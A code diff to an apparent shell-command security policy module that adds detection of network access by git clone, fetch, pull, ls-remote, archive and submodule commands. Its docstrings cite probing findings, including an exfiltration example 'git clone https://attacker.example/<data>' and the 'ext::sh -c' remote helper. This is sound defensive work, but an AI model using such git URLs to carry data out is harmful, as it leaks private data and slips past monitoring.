@@ -23,7 +23,7 @@ from exomonad.policy.shell_env import ShellEnv
 from exomonad.policy.shell_lex import Word
 from exomonad.policy.shell_network import host_of
 
-__all__ = ["branch_name", "push"]
+__all__ = ["branch_name", "push", "reached", "reached_by"]
 
 _LONG_FLAGS = frozenset(
     {
@@ -148,7 +148,7 @@ def _parse(args: list[Word]) -> _Parsed | None:
     return state, values, positionals
 
 
-def _pushed_to(remote: Word | None) -> list[Action]:
+def reached(remote: Word | None) -> list[Action]:
     """Network access to the host of a push's URL (``https://``, ``ssh://``, ``git://``,
     scp-like ``user@host:path``) or of a URL known only at run time: the pushed history
     leaves the machine for whoever is there (found probing: ``git push
@@ -158,7 +158,7 @@ def _pushed_to(remote: Word | None) -> list[Action]:
     stay as they are; a remote helper's address (``ext::sh -c CMD``: a command git
     runs) is Unknown.
 
-    >>> _pushed_to(Word("git@example.com:o/r.git")), _pushed_to(Word("origin"))
+    >>> reached(Word("git@example.com:o/r.git")), reached(Word("origin"))
     ([Network(host='example.com')], [])
     """
     if remote is None:
@@ -173,6 +173,42 @@ def _pushed_to(remote: Word | None) -> list[Action]:
     if scp or ("://" in text and not text.lower().startswith("file://")):
         return [Network(host_of(text.replace(":", "/", 1) if scp else text))]
     return []
+
+
+#: git subcommands that reach the repository a URL among their operands names.
+_REACHING = frozenset({"clone", "ls-remote", "fetch", "pull", "archive"})
+
+
+def reached_by(sub: str, rest: list[Word]) -> list[Action]:
+    """Network access by ``git SUB REST`` to the hosts of the URLs among its operands
+    (``clone``, ``ls-remote``, ``fetch``, ``pull``, ``submodule add``, ``archive
+    --remote=``): found probing, ``git clone https://attacker.example/<data>`` and ``git
+    ls-remote URL`` were allowed, carrying what the URL holds to any host.
+
+    >>> reached_by("clone", [Word("-b"), Word("main"), Word("https://h.example/r")])
+    [Network(host='h.example')]
+    """
+    if sub == "submodule":
+        operands = [w for w in rest if not w.text.startswith("-")]
+        rest = operands[1:] if operands[:1] and operands[0].text == "add" else []
+    elif sub not in _REACHING:
+        return []
+    words = [Word(w.text.split("=", 1)[1], w.dynamic, w.quoted)
+             if w.text.startswith("--remote=") else w for w in rest]  # fmt: skip
+    return [a for w in words if not w.text.startswith("-") and not _refspec(w.text)
+            for a in reached(w) if not (w.dynamic and not _looks_remote(w.text))]  # fmt: skip
+
+
+def _refspec(text: str) -> bool:
+    """``main:refs/tags/x``, ``+refs/heads/*:refs/remotes/o/*``: a fetch's refspec, not
+    a ``host:path`` (whose host has a ``.`` or a ``user@``)."""
+    head = text.split(":", 1)[0]
+    return ":" in text and "://" not in text and "@" not in head and "." not in head
+
+
+def _looks_remote(text: str) -> bool:
+    """A word built at run time that reads as a URL or ``host:path`` (``https://$H/x``)."""
+    return "://" in text or "@" in text or ":" in text
 
 
 def push(args: list[Word], repo: str | None, env: ShellEnv, cwd: str | None) -> list[Action]:
@@ -190,7 +226,7 @@ def push(args: list[Word], repo: str | None, env: ShellEnv, cwd: str | None) -> 
     remote_word = values.get("repo") or (positionals[0] if positionals else None)
     remote = None if remote_word is None or remote_word.dynamic else remote_word.text
     refspecs = positionals[1:] if positionals else []
-    out: list[Action] = _pushed_to(remote_word)
+    out: list[Action] = reached(remote_word)
     if state.get("prune") or state.get("mirror"):
         out.append(DeleteBranch(None, remote, force=True))
     if not refspecs:
